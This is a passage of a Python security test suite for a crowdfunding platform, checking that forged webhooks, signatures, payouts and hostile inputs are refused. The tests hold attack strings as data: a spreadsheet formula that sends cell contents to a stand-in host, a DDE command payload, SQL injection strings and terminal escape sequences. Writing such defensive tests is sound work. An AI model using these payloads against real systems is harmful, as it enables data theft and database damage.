    body = "ok\x1b[2J\x1b[1A\r\x9b31m faux \u202etxt.exe"
    as_user(user).insert("comments", {"campaign_id": campaign["id"], "body": body})
    result = console_cli("comments", "list")
    assert result.exit_code == 0, result.output
    assert "ok\\x1b[2J\\x1b[1A\\r\\x9b31m faux \\u202etxt.exe" in result.stdout
    assert not any(c in result.stdout for c in "\x1b\x9b\r\u202e")


def test_a_display_name_with_markup_cannot_break_the_users_listing(console_cli, as_user, user):
    name = "Fatou [/oops] [bold]Admin[/bold]"
    as_user(user).update("profiles", {"display_name": name}, {"id": user.id})
    result = console_cli("users", "list")
    assert result.exit_code == 0, result.output
    assert name in result.stdout


def test_a_formula_in_a_campaign_title_is_neutralised_in_the_csv_export(
    console_cli, owner, make_campaign
):
    title = '=HYPERLINK("https://evil.test/?d="&A1,"Soins")'
    make_campaign(owner, "active", title=title)
    result = console_cli("export", "campaigns")
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert row["title"] == "'" + title
    assert row["goal_amount"] == str(CAMPAIGN["goal_amount"])  # numbers stay numbers


def test_a_formula_in_a_donor_name_is_neutralised_in_the_csv_export(console_cli, donate, campaign):
    donate(campaign, 5000, donor_name="@SUM(1+1)*cmd|' /C calc'!A0")
    result = console_cli("export", "donations")
    assert result.exit_code == 0, result.output
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert row["donor_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["amount"] == "5000"


@pytest.mark.parametrize(
    "body",
    [{"target": ["document"]}, {"target": {"$ne": "avatar"}}, {"target": "document",
     "campaign_id": ["x"], "document_type": "medical_document"}],
)  # fmt: skip
def test_a_list_where_the_signature_expects_a_string_is_a_422(db, service, owner, campaign, body):
    response = sign_upload(service, owner.token, **body)
    assert response.status_code == 422, response.get_json()
    error = response.get_json()
    assert error["message"] == "invalid_request"
    assert {d["field"] for d in error["details"]} & {"target", "campaign_id"}
    assert "signature" not in response.get_json()


def test_a_signed_cloudinary_notification_of_the_wrong_shape_writes_nothing(db, service, campaign):
    note = upload_note(campaign["id"], public_id=["africagnotte/campaigns/x"], context="x")
    response = cloudinary_notify(service, note)
    assert response.status_code == 422, response.get_json()
    assert db.sql("select 1 from private.media_notifications") == []
    assert db.sql("select 1 from public.campaign_media") == []


@pytest.mark.parametrize(
    "change",
    [{"id": None}, {"created": "hier"}, {"created": 10**20}, {"type": ["charge.refunded"]}],
)
def test_a_signed_stripe_event_of_the_wrong_shape_is_a_4xx_and_credits_nothing(
    db, post_event, pledge, campaign, change
):
    response = post_event({**completed(pledge), **change})
    assert 400 <= response.status_code < 500, response.get_json()
    assert response.get_json()["message"]
    assert db.sql("select 1 from private.webhook_events") == []
    assert collected(db, campaign) == 0


def test_a_stripe_signature_in_non_ascii_characters_is_a_400(db, service, pledge):
    payload = json.dumps(completed(pledge)).encode()
    response = service.post(
        "/webhooks/stripe", data=payload, content_type="application/json",
        headers={"Stripe-Signature": "t=1,v1=é"},
    )  # fmt: skip
    assert response.status_code == 400
    assert db.sql("select 1 from private.webhook_events") == []


# Institutions paid directly ----------------------------------------------------------------


def test_an_owner_cannot_point_a_payout_at_a_forged_or_rewritten_institution(
    db, as_user, owner, admin, give, user, campaign
):
    """The owner wants the "hospital" payout on their own account: a forged row,
    an unknown id, a rewritten account, a payout's institution switched after."""
    from tests.support.institutions import HOSPITAL, register

    give(campaign, 100_000, user)
    hospital = register(as_user(admin))
    api = as_user(owner)
    mine = {"method": "mobile_money", "beneficiary_name": "Aminata Traoré", "bank_name": None,
            "account_number": None, "mobile_operator": "orange_money", "phone_number": "+22370123456"}  # fmt: skip
    before = db.sql("select * from public.institutions")
    sealed = db.sql("select * from private.institution_accounts")
    attempts = [
        lambda: api.insert(
            "institutions",
            {
                **{k: HOSPITAL[k] for k in ("name", "kind", "city", "country")},
                "name": "Hôpital Traoré",
                "method": "mobile_money",
                "mobile_operator": "orange_money",
                "beneficiary_mask": "C. G. T.",
                "account_mask": "+223 •• ••• •• 56",
            },
        ),
        lambda: api.update(
            "institutions", {"mobile_operator": "orange_money"}, {"id": hospital["id"]}
        ),
        lambda: api.rpc(
            "update_institution", {"institution_id": hospital["id"], **HOSPITAL, **mine}
        ),
        lambda: api.rpc("register_institution", {**HOSPITAL, **mine, "name": "Hôpital Traoré"}),
        lambda: api.rpc(
            "request_payout_to_institution",
            {
                "campaign_id": campaign["id"],
                "amount": 10_000,
                "institution_id": "00000000-0000-4000-8000-000000000000",
            },
        ),
        lambda: api.rpc(
            "request_payout",
            {
                "campaign_id": campaign["id"],
                "amount": 10_000,
                "institution_id": hospital["id"],
                **mine,
            },
        ),
    ]
    for attempt in attempts:
        with pytest.raises(ApiError) as err:
            attempt()
        assert err.value.status in (403, 404), err.value.message
    assert db.sql("select * from public.institutions") == before
    assert db.sql("select * from private.institution_accounts") == sealed
    assert db.sql("select 1 from public.payout_requests") == []
    # a real payout to the hospital cannot be switched to the owner afterwards
    p = api.rpc("request_payout_to_institution", {
        "campaign_id": campaign["id"], "amount": 10_000, "institution_id": hospital["id"]})  # fmt: skip
    with pytest.raises(ApiError) as err:
        api.update("payout_requests", {"institution_id": None}, {"id": p["id"]})
    assert err.value.status == 403
    assert (
        db.one("select institution_id from public.payout_requests")["institution_id"]
        == hospital["id"]
    )


# Attested offline gifts --------------------------------------------------------------------------


def test_a_treasurer_cannot_attest_their_own_offline_gift_through_another_path(
    db, as_user, owner, make_user, grant_role, make_campaign
):
    """The recorder tries every other way to count their own gift: writing the
    row, calling the transition function, and as staff (a moderator on the team,
    then one who left it): the gift stays pending and the progress unmoved."""
    campaign = make_campaign(owner, "active")
    treasurer = make_user(user_metadata={"full_name": "Mariam Keïta"})
    db.sql(
        "insert into public.campaign_members (campaign_id, user_id) values (%s, %s)",
        [campaign["id"], treasurer.id],
    )
    as_user(owner).rpc(
        "set_treasurers",
        {"campaign_id": str(campaign["id"]), "treasurer_ids": [str(treasurer.id)], "quorum": 1},
    )
    gift = as_user(treasurer).rpc(
        "record_offline_gift",
        {"campaign_id": str(campaign["id"]), "amount": 900_000, "currency": "XOF",
         "received_on": str(db.one("select current_date as d")["d"]), "channel": "cash",
         "slip_ref": f"africagnotte/offline/{campaign['id']}/recu-eglise"},
    )  # fmt: skip
    api = as_user(treasurer)
    refused(lambda: api.update("offline_gifts", {"status": "attested"}, {"id": gift["id"]}),
            code="42501")  # fmt: skip
    refused(lambda: raw(api, "select private.move_offline_gift(%s, 'attested')", [gift["id"]]),
            code="42501")  # fmt: skip
    refused(lambda: raw(api, "update public.campaigns set offline_amount = 900000 where id = %s",
                        [campaign["id"]]), code="42501")  # fmt: skip
    grant_role(treasurer, "moderator")
    refused(lambda: as_user(treasurer).rpc("attest_offline_gift", {"gift_id": gift["id"]}),
            code="cannot_attest_own_gift")  # fmt: skip
    db.sql("delete from public.campaign_members where user_id = %s", [treasurer.id])
    refused(lambda: as_user(treasurer).rpc("attest_offline_gift", {"gift_id": gift["id"]}),
            code="cannot_attest_own_gift")  # fmt: skip
    assert row(db, "offline_gifts", gift["id"])["status"] == "pending"
    assert row(db, "campaigns", campaign["id"])["offline_amount"] == 0


def test_a_stranger_cannot_read_an_offline_gifts_slip(
    db, as_user, anon, user, owner, make_campaign
):
    campaign = make_campaign(owner, "active")
    gift = as_user(owner).rpc(
        "record_offline_gift",
        {"campaign_id": str(campaign["id"]), "amount": 10_000, "currency": "XOF",
         "received_on": str(db.one("select current_date as d")["d"]), "channel": "agent",
         "slip_ref": f"africagnotte/offline/{campaign['id']}/bordereau-agent"},
    )  # fmt: skip
    assert as_user(user).get("offline_gifts", {"id": gift["id"]}) == []
    refused(lambda: anon.get("offline_gifts", {"id": gift["id"]}), code="42501")
    assert raw(as_user(user), "select slip_ref from public.offline_gifts", method="GET") == []
    for client in (anon, as_user(user)):
        listed = client.rpc("campaign_offline_gifts", {"campaign_id": str(campaign["id"])})
        assert "bordereau" not in json.dumps(listed, default=str)


# Justified spending --------------------------------------------------------------------------


@pytest.fixture
def justified(cast):
    """A campaign's cast with a payout of 50 000 XOF paid, one line published."""
    payout = paid_payout(cast, 50_000)
    cast.api("owner").rpc(
        "add_justification_line",
        {"payout_id": str(payout["id"]), "description": "Médicaments", "amount": 20_000,
         "spent_on": "2026-11-20", "supplier": "Pharmacie du Fleuve",
         "receipt_ref": f"africagnotte/justifications/{cast.campaign_id}/ordonnance-nominative"},
    )  # fmt: skip
    cast.api("owner").rpc("publish_justification", {"payout_id": str(payout["id"])})
    return cast, payout


def test_a_stranger_cannot_justify_or_clear_someone_elses_payout(justified, as_user, user, db):
    cast, payout = justified
    stranger = as_user(user)
    for function, args in [
        ("add_justification_line",
         {"payout_id": str(payout["id"]), "description": "Faux frais", "amount": 30_000,
          "spent_on": "2026-11-20", "supplier": "Moi-même",
          "receipt_ref": f"africagnotte/justifications/{cast.campaign_id}/faux"}),
        ("publish_justification", {"payout_id": str(payout["id"])}),
        ("clear_justification", {"payout_id": str(payout["id"]), "note": "Rien à voir"}),
    ]:  # fmt: skip
        with pytest.raises(ApiError) as exc:
            stranger.rpc(function, args)
        assert exc.value.message in {"payout_not_found", "staff_only"}, function
    assert db.one("select count(*) as n from public.justification_lines")["n"] == 1
    assert db.sql("select 1 from private.justification_clearances") == []


def test_a_donor_cannot_read_a_private_receipt_by_any_route(justified, db):
    cast, _ = justified
    for actor in ("anon", "donor", "banned"):
        client = cast.api(actor)
        if actor == "anon":  # no privilege at all
            with pytest.raises(ApiError) as exc:
                client.get("justification_receipts")
            assert exc.value.code == "42501"
        else:
            assert client.get("justification_receipts") == [], actor
        (line,) = client.get("justification_lines")
        assert "ordonnance-nominative" not in json.dumps(line, default=str), actor
        spending = client.rpc("payout_justifications", {"campaign_id": cast.campaign_id})
        assert "ordonnance-nominative" not in json.dumps(spending, default=str), actor


def test_the_team_cannot_write_a_published_line_or_a_receipt_around_the_rpcs(justified, db):
    cast, payout = justified
    owner = cast.api("owner")
    for table, row in [
        ("justification_lines",
         {"payout_id": str(payout["id"]), "campaign_id": cast.campaign_id, "description": "Fictif",
          "amount": 50_000, "currency": "XOF", "spent_on": "2026-11-20", "supplier": "Fictif",
          "status": "published", "published_at": "2026-11-20T10:00:00Z"}),
        ("justification_receipts",
         {"line_id": str(uuid.uuid4()), "campaign_id": cast.campaign_id,
          "file_ref": f"africagnotte/justifications/{cast.campaign_id}/autre"}),
    ]:  # fmt: skip
        with pytest.raises(ApiError) as exc:
            owner.insert(table, row)
        assert exc.value.code == "42501", table
    with pytest.raises(ApiError) as exc:
        owner.update("justification_lines", {"amount": 50_000}, {"payout_id": str(payout["id"])})
    assert exc.value.code == "42501"
    assert db.one("select sum(amount) as s from public.justification_lines")["s"] == 20_000


def test_a_receipt_cannot_point_at_another_campaigns_private_files(justified, db, make_campaign):
    cast, payout = justified
    other = make_campaign(cast.users["owner"], "active", title="Autre cagnotte d'Aminata")
    for ref in (
        f"africagnotte/justifications/{other['id']}/recu",
        f"africagnotte/documents/{cast.campaign_id}/medical_document",
        f"africagnotte/justifications/{cast.campaign_id}/../{other['id']}/recu",
    ):
        with pytest.raises(ApiError) as exc:
            cast.api("owner").rpc(
                "add_justification_line",
                {"payout_id": str(payout["id"]), "description": "Analyses", "amount": 1_000,
                 "spent_on": "2026-11-20", "supplier": "Laboratoire", "receipt_ref": ref},
            )  # fmt: skip
        assert exc.value.message == "invalid_justification_line", ref
    assert db.one("select count(*) as n from public.justification_receipts")["n"] == 1


# Receipts: forged links and other donors' receipts ------------------------------------------


def test_a_receipt_link_cannot_be_forged_nor_another_donors_receipt_read(
    db, service, as_user, give, campaign, user, other_user
):
    mine = give(campaign, 5000, user)["donation_id"]
    theirs = give(campaign, 7000, other_user)["donation_id"]
    (receipt,) = db.sql("select id from public.receipts where donation_id = %s", [theirs])
    rid = str(receipt["id"])
    # signatures an attacker could compute without the database's key
    guesses = [
        hashlib.sha256(rid.encode()).hexdigest(),
        base64.urlsafe_b64encode(hmac.new(b"", rid.encode(), "sha256").digest())
        .decode()
        .rstrip("="),
        base64.urlsafe_b64encode(hmac.new(rid.encode(), b"", "sha256").digest())
        .decode()
        .rstrip("="),
        "' or true --",
    ]
    for sig in guesses:
        response = service.get(f"/receipts/{rid}", query_string={"sig": sig})
        assert (response.status_code, response.get_json()["message"]) == (404, "receipt_not_found")
    # another donor's receipt through the API: neither the table nor the RPC shows it
    api = as_user(user)
    assert api.get("receipts", {"donation_id": theirs}) == []
    assert api.rpc("my_receipts", {"donation_id": theirs}) == []
    assert [str(r["donation_id"]) for r in api.rpc("my_receipts", {})] == [str(mine)]
    # nor the key that signs the links
    with pytest.raises(ApiError):
        api.rpc("receipt_signature", {"receipt_id": rid})
    with pytest.raises(ApiError):
        api.get("receipt_signing_key", {})


# Paystack's webhooks ---------------------------------------------------------------------


@pytest.fixture
def naira_pledge(service, paystack_api, owner, make_campaign):
    from tests.support.paystack import pay_by_paystack

    naira = make_campaign(owner, "active", currency="NGN", goal_amount=500_000_000)
    return pay_by_paystack(service, paystack_api, naira, 500_000)


def paystack_webhook(service, body: bytes, signature: str | None):
    headers = {"x-paystack-signature": signature} if signature is not None else {}
    return service.post(
        "/webhooks/paystack", data=body, headers=headers, content_type="application/json"
    )


@pytest.mark.parametrize(
    "forge",
    [
        lambda body: hmac.new(b"", body, "sha512").hexdigest(),  # an empty key
        lambda body: hashlib.sha512(body).hexdigest(),  # no key at all
        lambda body: hmac.new(b"sk_test_guess", body, "sha512").hexdigest(),
        lambda body: hmac.new(b"sk_test_guess", body, "sha256").hexdigest(),
        lambda body: "",
    ],
)
def test_a_forged_paystack_event_is_refused_before_anything_is_asked_or_written(
    db, service, paystack_api, naira_pledge, forge
):
    reference = naira_pledge["reference"]
    paystack_api.settle(reference)
    body = paystack_api.event(reference)

    response = paystack_webhook(service, body, forge(body))

    assert response.status_code == 400
    assert db.sql("select id from private.webhook_events") == []
    assert paystack_api.calls("/transaction/verify") == []
    (d,) = db.sql("select status::text from public.donations")
    assert d["status"] == "pending"


def test_a_paystack_event_replayed_many_times_at_once_credits_once(
    db, service_settings, make_app, paystack_api, naira_pledge
):
    from tests import paystack_fake

    paystack_api.settle(naira_pledge["reference"])
    body = paystack_api.event(naira_pledge["reference"])
    app = make_app(**service_settings)

    def post():
        return paystack_webhook(app.test_client(), body, paystack_fake.sign(body)).get_json()

    outcomes = [r["outcome"] for r in at_once([post] * 8)]

    assert sorted(outcomes) == ["applied"] + ["duplicate"] * 7
    assert db.one(
        "select collected_amount from public.campaigns where id = %s",
        [naira_pledge["campaign_id"]],
    ) == {"collected_amount": 500_000}
    assert db.sql("select * from private.check_ledger()") == []


def test_a_paystack_event_for_a_stripe_pledge_credits_nothing(db, service, paystack_api, pledge):
    from tests import paystack_fake

    # Paystack says a transaction under the Stripe attempt's id succeeded
    paystack_api.transactions[pledge["attempt_id"]] = {
        "id": 991, "reference": pledge["attempt_id"], "amount": 500_000, "currency": "XOF",
        "email": "x@example.com", "metadata": {"donation_id": pledge["donation_id"]},
        "access_code": "x", "status": "success", "channel": "card", "fees": 0,
        "gateway_response": "Successful",
    }  # fmt: skip
    body = paystack_api.event(pledge["attempt_id"])

    response = paystack_webhook(service, body, paystack_fake.sign(body))

    assert response.get_json()["outcome"] == "unknown_payment"
    assert db.one("select status::text from public.donations where id = %s",
                  [pledge["donation_id"]]) == {"status": "pending"}  # fmt: skip
    assert db.sql("select id from private.ledger_entries") == []


@pytest.mark.parametrize("verified", [{"amount": 100}, {"amount": 50_000_000}, {"amount": 500_001}])
def test_a_paystack_verified_amount_other_than_the_pledge_credits_nothing(
    db, service, paystack_api, naira_pledge, verified
):
    from tests import paystack_fake

    paystack_api.settle(naira_pledge["reference"], **verified)
    body = paystack_api.event(naira_pledge["reference"], amount=500_000)  # the webhook lies

    response = paystack_webhook(service, body, paystack_fake.sign(body))

    assert response.get_json()["outcome"] == "mismatch"
    assert db.sql("select id from private.ledger_entries") == []
    assert db.one(
        "select collected_amount from public.campaigns where id = %s",
        [naira_pledge["campaign_id"]],
    ) == {"collected_amount": 0}


# Tips, quotes and exchange rates (issue #20) ------------------------------------------------


def test_a_hostile_quote_never_answers_a_500(service, campaign):
    for query in (
        {"amount": "1; drop table public.donations"},
        {"amount": "9" * 40},
        {"amount": "1e309"},
        {"amount": "NaN"},
        {"amount": 5000, "currency": "xof' or '1'='1"},
        {"amount": 5000, "tip_amount": "-5"},
        {"amount": 5000, "tip_amount": str(2**63)},
        {"amount": 5000, "provider": "stripe", "payment_method": "x" * 500},
        {"amount": 5000, "currency": "CHF"},
        {"amount": 999_999_999_999_999, "currency": "EUR"},
        {"amount": 5000, "campaign_id": "not-a-uuid"},
    ):
        args = {"campaign_id": str(campaign["id"]), **query}
        response = service.get("/donations/quote", query_string=args)
        assert 400 <= response.status_code < 500, (query, response.get_json())
        assert response.get_json()["message"] != "internal_error"
    assert service.get("/donations/quote").status_code == 422


def test_a_tip_cannot_be_forged_into_the_campaigns_totals(
    db, service, as_user, user, campaign, stripe_api, post_event
):
    # a negative tip to inflate the gift, or a tip over the cap: refused, nothing written
    before = db.one("select count(*) as n from public.donations")["n"]
    for tip, token in ((-1_000, "invalid_request"), (10_000, "tip_out_of_bounds")):
        response = service.post(
            "/donations/checkout",
            json={"campaign_id": str(campaign["id"]), "amount": 10_000, "currency": "XOF",
                  "provider": "stripe", "tip_amount": tip},
        )  # fmt: skip
        assert (response.status_code, response.get_json()["message"]) == (422, token)
    assert db.one("select count(*) as n from public.donations")["n"] == before
    # a donor cannot move their tip into the gift through the API
    api = as_user(user)
    for write in (
        lambda: api.update("donations", {"tip_amount": 0, "amount": 12_000}, {"donor_id": str(user.id)}),
        lambda: api.insert("donations", {"campaign_id": str(campaign["id"]), "amount": 1,
                                         "currency": "XOF", "tip_amount": 0, "platform_fee_bp": 0}),
    ):  # fmt: skip
        with pytest.raises(ApiError) as exc:
            write()
        assert exc.value.code == "42501"
    # a tipped pledge paid: the tip is never the campaign's
    response = service.post(
        "/donations/checkout",
        json={"campaign_id": str(campaign["id"]), "amount": 10_000, "currency": "XOF",
              "provider": "stripe", "tip_amount": 2_000},
    )  # fmt: skip
    donation_id = response.get_json()["donation_id"]
    session = next(
        s for s in stripe_api.sessions.values() if s["metadata"]["donation_id"] == donation_id
    )
    pledge = {"donation_id": donation_id, "attempt_id": session["metadata"]["attempt_id"],
              "session_id": session["id"], "payment_intent": sf.new_id("pi"),
              "amount": 10_000, "currency": "XOF"}  # fmt: skip
    # paying the gift alone (not the tip) is not this charge: held, nothing credited
    assert post_event(completed(pledge)).get_json()["outcome"] == "mismatch"
    collected = db.one(
        "select collected_amount from public.campaigns where id = %s", [campaign["id"]]
    )
    assert collected["collected_amount"] == 0
    pledge = {**pledge, "amount": 12_000, "payment_intent": sf.new_id("pi")}
    stripe_api.register_intent(pledge["payment_intent"], 12_000, "XOF", session["metadata"])
    post_event(completed(pledge))
    assert db.sql("select * from private.check_ledger()") == []


def test_exchange_rates_cannot_be_written_by_a_non_admin(db, as_user, owner, user, moderator):
    for person in (owner, user, moderator):
        api = as_user(person)
        with pytest.raises(ApiError) as exc:
            api.rpc("set_exchange_rate",
                    {"base_currency": "USD", "quote_currency": "XOF", "rate": 1})  # fmt: skip
        assert exc.value.message == "admin_only"
        with pytest.raises(ApiError) as exc:
            api.insert("exchange_rates", {"base_currency": "USD", "quote_currency": "XOF",
                                          "rate": 1, "as_of": "2026-11-30"})  # fmt: skip
        assert exc.value.code == "42501"
        with pytest.raises(ApiError):
            api.rpc("convert", {"amount": 1, "from_currency": "EUR", "to_currency": "XOF"})
    assert db.sql("select * from public.exchange_rates") == []


# Monthly giving: someone else's gift, forged cancel links, invoices for another gift ---------


def test_someone_elses_monthly_gift_can_be_neither_read_nor_cancelled(
    db, service, stripe_api, post_event, as_user, campaign, user, other_user
):
    gift = start_monthly(service, stripe_api, campaign, 5_000, token=user.token)
    post_event(paid_invoice(stripe_api, gift, first=True))
    api = as_user(other_user)
    assert api.get("recurring_gifts", {"id": gift["gift_id"]}) == []
    assert refused(
        lambda: api.rpc("cancel_recurring_gift", {"gift_id": gift["gift_id"]})
    ).message == ("recurring_gift_not_found")
    url = f"/recurring-gifts/{gift['gift_id']}/cancel"
    by_token = service.post(url, json={}, headers={"Authorization": f"Bearer {other_user.token}"})
    assert (by_token.status_code, by_token.get_json()["message"]) == (
        404,
        "recurring_gift_not_found",
    )
    # the Stripe ids and the signing key stay private
    for table in ("recurring_gift_refs", "recurring_gift_signing_key", "recurring_gift_payments"):
        with pytest.raises(ApiError):
            api.get(table, {})
    with pytest.raises(ApiError):
        api.rpc("recurring_gift_signature", {"gift_id": gift["gift_id"]})
    assert (
        db.one("select status::text from public.recurring_gifts where id = %s", [gift["gift_id"]])[
            "status"
        ]
        == "active"
    )
    assert stripe_api.deleted_subscriptions == []


def test_a_cancel_link_cannot_be_forged_nor_moved_to_another_gift(
    db, service, stripe_api, post_event, campaign
):
    mine = start_monthly(service, stripe_api, campaign, 5_000, email="moi@example.com")
    theirs = start_monthly(service, stripe_api, campaign, 5_000, email="autre@example.com")
    for gift in (mine, theirs):
        post_event(paid_invoice(stripe_api, gift, first=True))
    tid = theirs["gift_id"]
    my_sig = cancel_link_sig(db, mine)
    guesses = [
        my_sig,  # a valid signature, for another gift
        hashlib.sha256(tid.encode()).hexdigest(),
        base64.urlsafe_b64encode(hmac.new(b"", tid.encode(), "sha256").digest())
        .decode()
        .rstrip("="),
        "' or true --",
        my_sig + "=",
    ]
    for sig in guesses:
        response = service.post(f"/recurring-gifts/{tid}/cancel", json={"sig": sig})
        assert (response.status_code, response.get_json()["message"]) == (
            404, "recurring_gift_not_found",
        ), sig  # fmt: skip
    assert db.one("select status::text from public.recurring_gifts where id = %s", [tid])[
        "status"
    ] == ("active")
    assert stripe_api.deleted_subscriptions == []


def test_an_invoice_cannot_credit_another_campaign_through_someone_elses_gift(
    db, service, stripe_api, post_event, campaign, owner, make_campaign
):
    gift = start_monthly(service, stripe_api, campaign, 5_000, email="moi@example.com")
    post_event(paid_invoice(stripe_api, gift, first=True))
    other = make_campaign(owner, "active", title="Une autre cagnotte")
    # the gift's id with another campaign, or another subscription claiming the gift
    forged = [
        paid_invoice(stripe_api, gift, meta={**gift["meta"], "campaign_id": str(other["id"])}),
        paid_invoice(stripe_api, gift, subscription_id=sf.new_id("sub")),
        paid_invoice(stripe_api, gift, meta={"recurring_gift_id": "' or true --"},
                     subscription_id=sf.new_id("sub")),
    ]  # fmt: skip
    answers = [post_event(evt).get_json()["outcome"] for evt in forged]
    assert answers == ["mismatch", "mismatch", "unknown_payment"]
    assert totals(db, other)["collected_amount"] == 0
    assert totals(db, campaign)["collected_amount"] == 5_000
    assert db.sql("select * from private.check_ledger()") == []


def test_a_replayed_invoice_or_subscription_end_changes_nothing_twice(
    db, service, stripe_api, post_event, campaign
):
    gift = start_monthly(service, stripe_api, campaign, 5_000, email="moi@example.com")
    paid = paid_invoice(stripe_api, gift, first=True)
    ended = subscription_deleted(gift, "payment_failed")
    assert [post_event(e).get_json()["outcome"] for e in (paid, paid, ended, ended)] == [
        "applied", "duplicate", "applied", "duplicate",
    ]  # fmt: skip
    # a renewal replayed after the gift ended is neither credited nor refunded twice
    assert post_event(paid).get_json()["outcome"] == "duplicate"
    assert stripe_api.refunds == {}
    assert totals(db, campaign)["collected_amount"] == 5_000


# Paystack's quote: its channel and its rates (issue #20) -----------------------------------------


def test_a_checkouts_payment_method_cannot_smuggle_anything_into_paystack(
    db, service, paystack_api, owner, make_campaign
):
    naira = make_campaign(owner, "active", currency="NGN", goal_amount=500_000_000)
    before = db.one("select count(*) as n from public.donations")["n"]
    for method in ("card' or '1'='1", "x" * 41, "card,bank", "mobile money", "", "carte😀"):
        response = service.post(
            "/donations/checkout",
            json={"campaign_id": str(naira["id"]), "amount": 500_000, "currency": "NGN",
                  "provider": "paystack", "email": "a@example.ng", "cover_fees": True,
                  "payment_method": method},
        )  # fmt: skip
        assert response.status_code == 422, (method, response.get_json())
        assert response.get_json()["message"] == "invalid_request"
    assert db.one("select count(*) as n from public.donations")["n"] == before
    assert paystack_api.transactions == {}
    # a method Paystack has no channel for limits nothing and is counted at the highest rate
    response = service.post(
        "/donations/checkout",
        json={"campaign_id": str(naira["id"]), "amount": 500_000, "currency": "NGN",
              "provider": "paystack", "email": "a@example.ng", "cover_fees": True,
              "payment_method": "CRYPTO"},
    )  # fmt: skip
    assert response.status_code == 201
    (t,) = paystack_api.transactions.values()
    assert t["channels"] is None
    card = service.get(
        "/donations/quote",
        query_string={"campaign_id": str(naira["id"]), "amount": 500_000, "provider": "paystack",
                      "cover_fees": "true", "payment_method": "card"},
    ).get_json()  # fmt: skip
    assert t["amount"] == card["charged_amount"]


def test_only_an_admin_may_lower_paystacks_rates_to_make_quotes_promise_more(
    db, as_user, owner, user, admin
):
    for someone in (owner, user):
        changed = as_user(someone).update(
            "provider_fees",
            {"fee_bp": 0},
            {"provider": "paystack", "currency": "NGN", "channel": "card"},
        )
        assert changed == []
    assert (
        db.one(
            "select fee_bp from public.provider_fees"
            " where provider = 'paystack' and currency = 'NGN' and channel = 'card'"
        )["fee_bp"]
        == 150
    )
    changed = as_user(admin).update(
        "provider_fees",
        {"fee_bp": 300},
        {"provider": "paystack", "currency": "NGN", "channel": "card"},
    )
    assert [r["fee_bp"] for r in changed] == [300]
